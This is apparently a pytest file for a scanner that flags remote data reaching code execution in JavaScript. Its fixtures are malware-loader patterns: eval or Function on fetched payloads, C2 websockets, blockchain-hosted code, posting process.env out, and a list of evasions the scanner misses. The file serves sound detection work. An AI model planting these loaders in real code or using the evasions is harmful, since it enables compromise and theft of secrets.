"""Remote data reaching execution in JavaScript/TypeScript: one small repository per shape.

Each case names the file and line of the sink that must be reported. Hosts are under .invalid /
.test or are JSON-hosting services with made-up ids; nothing here is ever run.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from inspector.model import Category, Engine, Severity
from tests.static.flow._scan import rce, scan, weak

POSITIVES: dict[str, tuple[dict[str, str], str, int]] = {
    "axios-await-eval-cookie": (
        {
            "server/controllers/userController.js": """
            const axios = require('axios');
            exports.getCookie = asyncErrorHandler(async (req, res, next) => {
              const result = await axios.get("https://api.npoint.io/0000000000000000aaaa");
              eval(result.data.cookie);
            })();
            """
        },
        "server/controllers/userController.js",
        4,
    ),
    "ajunaverse-split-across-files": (
        {
            "server/controllers/auth.js": """
                const axios = require('axios');
                const setApiKey = (s) => atob(s);
                const verify = (api) =>
                  axios.post(api, { ...process.env }, { headers: { 'x-app-request': 'ip-check' } });
                module.exports = { setApiKey, verify };
                """,
            "server/routes/api/auth.js": """
                const { setApiKey, verify } = require('../../controllers/auth');
                verify(setApiKey(process.env.AUTH_API)).then((response) => {
                  const executor = new Function('require', response.data);
                  executor(require);
                });
                """,
        },
        "server/routes/api/auth.js",
        3,
    ),
    "realfraction-https-request-chunks": (
        {
            "server/utils/regionChecker.js": """
            const https = require('https');
            https.request('https://region.invalid/api/ip-check-encrypted/3aeb34a31',
              { method: 'POST', headers: { 'x-secret-header': 'secret' } }, res => {
                let data = '';
                res.on('data', c => data += c).on('end', () => {
                  if (data === 'blocked') return;
                  try { eval(data); } catch (_) {}
                });
              }).end();
            """
        },
        "server/utils/regionChecker.js",
        7,
    ),
    "pawcommerce-new-paren-function-constructor": (
        {
            "server/utils/bootstrap.js": """
            const axios = require('axios');
            async function boot() {
              const src = atob(process.env.DEV_API_KEY);
              const s = (await axios.get(src, { headers: { 'x-secret-key': '_' } })).data.cookies;
              const handler = new (Function.constructor)('require', s);
              handler(require);
            }
            boot();
            """
        },
        "server/utils/bootstrap.js",
        5,
    ),
    "wallet-trap-fetch-json-new-function": (
        {
            "public/vite.cookie.js": """
            fetch("https://jsonkeeper.com/b/ZZZZ")
              .then(r => r.json())
              .then(d => new Function('require', d.cookie)(require));
            """
        },
        "public/vite.cookie.js",
        3,
    ),
    "catch-error-path": (
        {
            "src/api/auth.controller.js": """
            const axios = require('axios');
            axios.get('https://c2.invalid/api').then(() => {}).catch(err => {
              const message = err.response.data.token;
              const errorHandler = new Function.constructor('require', message);
              errorHandler(require);
            });
            """
        },
        "src/api/auth.controller.js",
        4,
    ),
    "catch-passes-to-handler": (
        {
            "src/a.js": """
            const axios = require('axios');
            function handler(msg) { eval(msg); }
            axios.post('https://c2.invalid/x', {}).catch(err => handler(err.response.data));
            """
        },
        "src/a.js",
        2,
    ),
    "try-catch-after-await": (
        {
            "a.js": """
            async function go() {
              try { await axios.get('https://c2.invalid/a'); }
              catch (e) { eval(e.response.data); }
            }
            """
        },
        "a.js",
        3,
    ),
    "charcode-url": (
        {
            "src/wallet/keys.js": """
            const axios = require('axios');
            const testpvk = [97, 72, 82, 48];
            const testpvkString = atob(String.fromCharCode(...testpvk));
            axios.get(testpvkString).then(r => {
              const walletData = r.data;
              new Function.constructor('require', walletData.model)(require);
            });
            """
        },
        "src/wallet/keys.js",
        6,
    ),
    "etherhiding-ethers-contract": (
        {
            "src/chain/config.js": """
            const { ethers } = require('ethers');
            const provider = new ethers.JsonRpcProvider('https://bsc-dataseed.binance.test/');
            const contract = new ethers.Contract('0x0000', ['function getMemo() view returns (string)'], provider);
            async function load() {
              const memo = await contract.getMemo();
              new Function('require', memo)(require);
            }
            load();
            """
        },
        "src/chain/config.js",
        6,
    ),
    "web3-contract-call": (
        {
            "a.js": """
            const Web3 = require('web3');
            const web3 = new Web3('https://rpc.invalid');
            const c = new web3.eth.Contract([], '0x0');
            c.methods.getMemo().call().then(m => eval(m));
            """
        },
        "a.js",
        4,
    ),
    "fetch-text-then-eval-callback": (
        {"a.js": "fetch(url).then(r => r.text()).then(eval);\n"},
        "a.js",
        1,
    ),
    "indirect-eval-comma": (
        {"a.js": "fetch('https://x.invalid').then(r => r.text()).then(t => (0, eval)(t));\n"},
        "a.js",
        1,
    ),
    "global-eval": (
        {"a.js": "fetch('https://x.invalid').then(r => r.text()).then(t => global.eval(t));\n"},
        "a.js",
        1,
    ),
    "computed-window-eval": (
        {"a.js": "fetch('https://x.invalid').then(r => r.text()).then(t => window['ev' + 'al'](t));\n"},
        "a.js",
        1,
    ),
    "async-function-constructor": (
        {
            "a.js": """
            const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
            got('https://g.invalid').text().then(t => new AsyncFunction('require', t)(require));
            """
        },
        "a.js",
        2,
    ),
    "function-constructor-call-no-new": (
        {"a.js": "axios.get('https://x.invalid').then(({ data }) => Function('require', data.js)(require));\n"},
        "a.js",
        1,
    ),
    "vm-run-in-this-context": (
        {
            "src/plugins/loader.js": """
            const vm = require('vm');
            const axios = require('axios');
            async function load() {
              const { data } = await axios.get('https://plugins.invalid/p.js');
              vm.runInThisContext(data);
            }
            """
        },
        "src/plugins/loader.js",
        5,
    ),
    "vm-script": (
        {
            "a.js": """
            import { Script } from 'vm';
            const r = await fetch('https://x.invalid'); const code = await r.text();
            new Script(code).runInThisContext();
            """
        },
        "a.js",
        3,
    ),
    "child-process-exec-response": (
        {
            "scripts/doctor.js": """
            const { exec } = require('child_process');
            const axios = require('axios');
            axios.get('https://diag.invalid/cmd').then(res => exec(res.data.command));
            """
        },
        "scripts/doctor.js",
        3,
    ),
    "spawn-node-e": (
        {
            "a.js": """
            const net = require('net');
            const client = net.connect(1248, 'c2.invalid');
            client.on('data', d => { require('child_process').spawn('node', ['-e', d.toString()]); });
            """
        },
        "a.js",
        3,
    ),
    "module-compile": (
        {
            "a.js": """
            const Module = require('module');
            fetch('https://x.invalid').then(r => r.text()).then(src => {
              const m = new Module('x'); m._compile(src, 'x.js');
            });
            """
        },
        "a.js",
        3,
    ),
    "require-written-file": (
        {
            "a.js": """
            const fs = require('fs'); const path = require('path');
            async function run() {
              const code = await (await fetch('https://x.invalid/p.js')).text();
              const p = path.join(__dirname, 'cache.js');
              fs.writeFileSync(p, code);
              require(p);
            }
            """
        },
        "a.js",
        6,
    ),
    "downloaded-file-run-by-shell": (
        {
            "a.js": """
            const https = require('https'); const fs = require('fs'); const { exec } = require('child_process');
            https.get('https://dl.invalid/x', res => {
              const file = fs.createWriteStream('/tmp/x.sh');
              res.pipe(file);
              file.on('finish', () => exec('bash /tmp/x.sh'));
            });
            """
        },
        "a.js",
        5,
    ),
    "read-back-downloaded-file": (
        {
            "a.js": """
            const fs = require('fs');
            fetch('https://x.invalid').then(r => r.text()).then(t => fs.writeFileSync('payload.txt', t));
            eval(fs.readFileSync('payload.txt', 'utf8'));
            """
        },
        "a.js",
        3,
    ),
    "data-url-import": (
        {
            "a.mjs": "const code = await (await fetch('https://x.invalid')).text();\n"
            "await import('data:text/javascript,' + code);\n"
        },
        "a.mjs",
        2,
    ),
    "websocket-message": (
        {
            "a.js": """
            const WebSocket = require('ws');
            const ws = new WebSocket('wss://c2.invalid:8085');
            ws.on('message', (m) => { eval(m.toString()); });
            """
        },
        "a.js",
        3,
    ),
    "websocket-onmessage-property": (
        {"a.js": "const s = new WebSocket('wss://c2.invalid'); s.onmessage = (e) => { eval(e.data); };\n"},
        "a.js",
        1,
    ),
    "socket-io-command": (
        {
            "lib/sync.js": """
            const io = require('socket.io-client');
            const socket = io('http://c2.invalid:1224');
            socket.on('command', (cmd) => { eval(cmd); });
            """
        },
        "lib/sync.js",
        3,
    ),
    "xmlhttprequest": (
        {
            "a.js": "const x = new XMLHttpRequest(); x.open('GET', u);\n"
            "x.onload = function () { eval(x.responseText); };\n"
        },
        "a.js",
        2,
    ),
    "node-fetch-import": (
        {"a.mjs": "import nf from 'node-fetch';\nconst r = await nf('https://x.invalid');\neval(await r.text());\n"},
        "a.mjs",
        3,
    ),
    "superagent-end-callback": (
        {
            "a.js": "const superagent = require('superagent');\n"
            "superagent.get('https://s.invalid').end((err, res) => { eval(res.text); });\n"
        },
        "a.js",
        2,
    ),
    "request-callback-body": (
        {
            "a.js": "const request = require('request');\n"
            "request('https://r.invalid', (err, resp, body) => { eval(body); });\n"
        },
        "a.js",
        2,
    ),
    "axios-instance": (
        {
            "a.js": """
            const axios = require('axios');
            const api = axios.create({ baseURL: 'https://api.invalid' });
            api.get('/cfg').then(r => eval(r.data.js));
            """
        },
        "a.js",
        3,
    ),
    "promise-wrapper-resolve": (
        {
            "a.js": """
            function dl(u) {
              return new Promise((resolve) => {
                https.get(u, res => { let b = ''; res.on('data', d => b += d); res.on('end', () => resolve(b)); });
              });
            }
            async function main() { const code = await dl('https://p.invalid/a'); eval(code); }
            """
        },
        "a.js",
        6,
    ),
    "callback-parameter-called-with-data": (
        {
            "a.js": """
            function fetchData(cb) {
              https.get('https://cb.invalid', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => cb(d)) });
            }
            fetchData(function handle(x) { eval(x); });
            """
        },
        "a.js",
        4,
    ),
    "returns-tainted-helper": (
        {
            "a.js": """
            async function getConfig() { const { data } = await axios.get('https://cfg.invalid'); return data.script; }
            getConfig().then(s => eval(s));
            """
        },
        "a.js",
        2,
    ),
    "class-field-between-methods": (
        {
            "a.js": """
            class Loader {
              async load() { this.code = (await axios.get('https://b.invalid')).data; }
              run() { eval(this.code); }
            }
            """
        },
        "a.js",
        3,
    ),
    "map-set-get": (
        {
            "a.js": "const cache = new Map();\n"
            "axios.get('https://e.invalid').then(r => { cache.set('x', r.data); eval(cache.get('x')); });\n"
        },
        "a.js",
        2,
    ),
    "destructuring-nested-and-template": (
        {
            "a.js": """
            async function g() {
              const { data: { cookie } } = await axios.get('https://f.invalid');
              const [first] = [cookie];
              eval(`${first}`);
            }
            """
        },
        "a.js",
        4,
    ),
    "reflect-apply-eval": (
        {"a.js": "axios.get('https://c.invalid').then(r => Reflect.apply(eval, null, [r.data]));\n"},
        "a.js",
        1,
    ),
    "set-timeout-string": (
        {"a.js": "axios.get('https://d.invalid').then(r => setTimeout(r.data, 10));\n"},
        "a.js",
        1,
    ),
    "es-module-named-export-wrapper": (
        {
            "src/run.ts": "export function runIt(code: string): void { new Function('require', code)(require); }\n",
            "src/main.ts": """
                import { runIt } from './run';
                import axios from 'axios';
                const res = await axios.get<string>('https://ts.invalid/x');
                runIt(res.data as string);
                """,
        },
        "src/run.ts",
        1,
    ),
    "tsx-component": (
        {
            "src/App.tsx": """
            import React, { useEffect } from 'react';
            export default function App(): JSX.Element {
              useEffect(() => { fetch('https://t.invalid').then(r => r.text()).then(t => eval(t!)); }, []);
              return <div>hi</div>;
            }
            """
        },
        "src/App.tsx",
        3,
    ),
    "index-js-resolution-and-handler-passed-by-name": (
        {
            "src/handlers/index.js": "exports.executeHandler = function (code) {\n"
            "  new Function.constructor('require', code)(require);\n};\n",
            "src/services/contract.js": """
                const axios = require('axios');
                const handlers = require('../handlers');
                axios.get('https://api.npoint.io/ffffffffffffffff0000')
                  .then(res => res.data.cookie)
                  .then(handlers.executeHandler);
                """,
        },
        "src/handlers/index.js",
        2,
    ),
    "module-exports-function-default": (
        {
            "lib/exec.js": "module.exports = function run(s) { eval(s); };\n",
            "lib/main.js": "const run = require('./exec');\n"
            "fetch('https://x.invalid').then(r => r.text()).then(t => run(t));\n",
        },
        "lib/exec.js",
        1,
    ),
    "relay-module-naming-no-source-or-sink": (
        {
            "a.js": "const { relay } = require('./b');\naxios.get('https://x.invalid').then(r => relay(r.data));\n",
            "b.js": "const { runIt } = require('./c');\nexports.relay = (x) => runIt(x);\n",
            "c.js": "exports.runIt = (s) => eval(s);\n",
        },
        "c.js",
        1,
    ),
    "syntax-error-elsewhere-in-file": (
        {
            "a.js": "const axios = require('axios');\naxios.get('https://x.invalid').then(r => eval(r.data));\n"
            "function broken( {{{\n"
        },
        "a.js",
        2,
    ),
}


@pytest.mark.parametrize("case", sorted(POSITIVES))
def test_remote_data_reaching_a_sink_is_reported_at_the_sink(tmp_path: Path, case: str) -> None:
    files, path, line = POSITIVES[case]
    found = rce(scan(tmp_path, files))
    assert [(f.path, f.line) for f in found if (f.path, f.line) == (path, line)], [(f.path, f.line) for f in found]


NEGATIVES: dict[str, dict[str, str]] = {
    "json-parse-of-response": {"a.js": "fetch('https://api.invalid').then(r => r.text()).then(t => JSON.parse(t));\n"},
    "constant-execsync": {"a.js": "require('child_process').execSync('git rev-parse HEAD');\n"},
    "eval-of-constant": {"a.js": "eval('1 + 1');\nconst f = new Function('return this')();\n"},
    "webpack-eval-source-map": {
        "webpack.config.js": "module.exports = {\n  mode: 'development',\n  devtool: 'eval-source-map',\n"
        "  entry: './src/index.js',\n};\n",
        "dist/main.js": 'eval("var x = 1;\\n//# sourceURL=webpack:///./src/index.js");\n',
    },
    "template-engine-compiling-local-file": {
        "lib/compile.js": """
            const fs = require('fs');
            function compile(file) {
              const src = fs.readFileSync(file, 'utf8');
              return new Function('locals', 'escape', 'return `' + src + '`;');
            }
            module.exports = compile;
            """,
    },
    "response-rendered-not-executed": {
        "a.js": "axios.get('https://api.invalid/users')\n"
        "  .then(r => { document.title = r.data.name; console.log(r.data); });\n",
    },
    "exec-of-unrelated-constant-beside-fetch": {
        "a.js": "const { exec } = require('child_process');\n"
        "fetch('https://x.invalid').then(r => r.json()).then(j => console.log(j));\nexec('npm run build');\n",
    },
    "regex-exec-on-response": {"a.js": "fetch('https://x.invalid').then(r => r.text()).then(t => /a(b)/.exec(t));\n"},
    "local-require-without-download": {
        "a.js": "const cfg = require('./config');\nfetch(cfg.url).then(r => r.json());\n",
        "config.js": "module.exports = { url: 'https://api.invalid' };\n",
    },
}


@pytest.mark.parametrize("case", sorted(NEGATIVES))
def test_benign_shapes_give_no_remote_code_execution(tmp_path: Path, case: str) -> None:
    result = scan(tmp_path, NEGATIVES[case])
    assert rce(result) == []
    assert all(f.severity.rank < Severity.MEDIUM.rank for f in weak(result))


def test_decoded_data_reaching_eval_is_a_high_code_execution(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.js": "eval(Buffer.from(process.env.PAYLOAD, 'base64').toString());\n"})
    assert rce(result) == []
    [finding] = weak(result)
    assert (finding.rule, finding.severity) == ("flow.js.decoded-code-execution", Severity.HIGH)


def test_environment_data_reaching_eval_is_a_medium_code_execution(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.js": "eval(process.env.PAYLOAD);\n"})
    [finding] = weak(result)
    assert (finding.rule, finding.severity) == ("flow.js.dynamic-code-execution", Severity.MEDIUM)


def test_non_constant_eval_is_low(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.js": "function calc(expr) { return eval(expr); }\n"})
    [finding] = weak(result)
    assert (finding.severity, finding.category, finding.line) == (Severity.LOW, Category.CODE_EXECUTION, 1)


def test_wrapper_trace_runs_from_the_source_line_through_each_hop_to_the_sink(tmp_path: Path) -> None:
    files = {
        "src/utils/handler.js": """
            const createHandler = (errCode) => {
              const handler = new Function.constructor('require', errCode);
              return handler;
            };
            const errorHandler = (error) => { const h = createHandler(error); h(require); };
            module.exports = { errorHandler };
            """,
        "src/getContract.js": """
            const axios = require('axios');
            const { errorHandler } = require('./utils/handler');
            const GET_HASHED_URL = 'https://api.npoint.io/0a1b2c3d4e5f6a7b8c9d';
            function callHashedContract() {
              axios.get(GET_HASHED_URL).then(res => errorHandler(res.data.cookie));
            }
            callHashedContract();
            """,
    }
    [finding] = rce(scan(tmp_path, files))
    assert (finding.path, finding.line, finding.column) == ("src/utils/handler.js", 2, 19)
    assert finding.rule == "flow.js.remote-code-execution"
    assert finding.severity is Severity.CRITICAL
    assert finding.engines == (Engine.TREE_SITTER,)
    assert finding.hosts == ("api.npoint.io",)
    first, *hops, last = finding.trace
    assert (first.path, first.line) == ("src/getContract.js", 5)
    assert first.note.startswith("source: axios.get")
    assert any("passed to errorHandler(error)" in h.note and h.path == "src/utils/handler.js" for h in hops)
    assert any("passed to createHandler(errCode)" in h.note for h in hops)
    assert (last.path, last.line, last.note) == ("src/utils/handler.js", 2, "sink: new Function.constructor")
    assert "new Function.constructor" in finding.evidence


def test_host_comes_from_a_literal_or_a_constant_in_the_same_file(tmp_path: Path) -> None:
    files = {
        "a.js": "const API = 'https://cfg.invalid/v1';\naxios.get(API).then(r => eval(r.data));\n",
        "b.js": "https.get({ hostname: 'c2.invalid', path: '/x' }, res => res.on('data', d => eval(d)));\n",
    }
    hosts = {f.path: f.hosts for f in rce(scan(tmp_path, files))}
    assert hosts == {"a.js": ("cfg.invalid",), "b.js": ("c2.invalid",)}


def test_finding_ids_are_stable_and_evidence_is_trimmed(tmp_path: Path) -> None:
    line = (
        " " * 380
        + "fetch('https://jsonkeeper.com/b/QQQQ').then(r => r.json()).then(d => eval(d.cookie));"
        + " x;" * 200
    )
    first = rce(scan(tmp_path / "one", {"a.js": line + "\n"}))
    second = rce(scan(tmp_path / "two", {"a.js": line + "\n"}))
    assert [f.id for f in first] == [f.id for f in second]
    assert len(first[0].evidence) <= 200
    assert "eval(d.cookie)" in first[0].evidence


KNOWN_EVASIONS: dict[str, tuple[dict[str, str], str]] = {
    "eval-name-built-at-runtime": (
        {
            "a.js": "const k = ['e','v','a','l'].join('');\n"
            "axios.get('https://a.invalid').then(r => global[k](r.data));\n"
        },
        "the sink name is computed from an array at run time; only constant-folded names are recognised",
    ),
    "eval-stored-in-an-object-field": (
        {"a.js": "const o = { run: eval };\naxios.get('https://x.invalid').then(r => o.run(r.data));\n"},
        "sink aliases are tracked for plain names, not for object fields holding eval",
    ),
    "method-of-a-class-instance-from-another-module": (
        {
            "runner.js": "class Runner { run(s) { eval(s); } }\nmodule.exports = new Runner();\n",
            "main.js": "const runner = require('./runner');\n"
            "axios.get('https://x.invalid').then(r => runner.run(r.data));\n",
        },
        "calls are resolved to functions and object-literal members, not to methods of class instances",
    ),
}


@pytest.mark.parametrize(
    "case",
    [
        pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=KNOWN_EVASIONS[name][1]))
        for name in sorted(KNOWN_EVASIONS)
    ],
)
def test_known_evasions_not_yet_caught(tmp_path: Path, case: str) -> None:
    files, _ = KNOWN_EVASIONS[case]
    assert rce(scan(tmp_path, files))
